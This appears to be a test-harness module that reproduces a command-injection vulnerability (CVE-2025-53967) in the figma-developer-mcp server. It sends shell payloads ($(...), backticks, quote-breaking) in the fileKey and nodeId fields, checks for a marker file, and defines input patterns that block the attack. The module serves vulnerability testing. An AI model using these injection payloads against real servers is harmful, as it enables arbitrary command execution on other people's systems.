"""A Figma server that hands an address to a shell when its own request fails."""

from attack import SERVERS, Attack, Stdio, node
from lab import Lab
from session import Session

API = SERVERS / "figma/api.mjs"


def server(lab: Lab) -> Stdio:
    script = "figma-developer-mcp/dist/cli.js"
    started = node("figma", script, "--stdio", "--figma-api-key=none", cwd=lab.inside)
    return Stdio(started.command, ["--import", str(API), *started.args], started.cwd, started.env)


async def ordinary(session: Session, _: Lab) -> None:
    await session.expect("Landing page", "get_figma_data", fileKey="abcDEF123")


async def attack(session: Session, lab: Lab) -> None:
    for mark in (lab.folder / "mark", lab.inside / "mark"):
        await session.attempt("get_figma_data", fileKey=f"$(echo pwned >{mark})")
        await session.attempt("get_figma_data", fileKey="abc", nodeId=f"`echo pwned >{mark}`")
        await session.attempt("get_figma_data", fileKey=f'abc"; echo pwned >{mark}; "')


def happened(_: Session, lab: Lab) -> bool:
    return (lab.folder / "mark").exists() or (lab.inside / "mark").exists()


ATTACKS = (
    Attack(
        name="figma-command",
        ids="CVE-2025-53967",
        package="figma-developer-mcp@0.6.0",
        what="puts a command where the key of a file should be",
        prepare=lambda lab: None,
        server=server,
        ordinary=ordinary,
        attack=attack,
        happened=happened,
        constraints=lambda lab: [{"at": "/fileKey", "pattern": "[A-Za-z0-9]+"}, {"at": "/nodeId", "pattern": "[0-9]+[:-][0-9]+"}],
        sandbox=lambda lab: {"read": [str(API)], "write": [str(lab.inside)]},
        needs=("figma",),
    ),
)
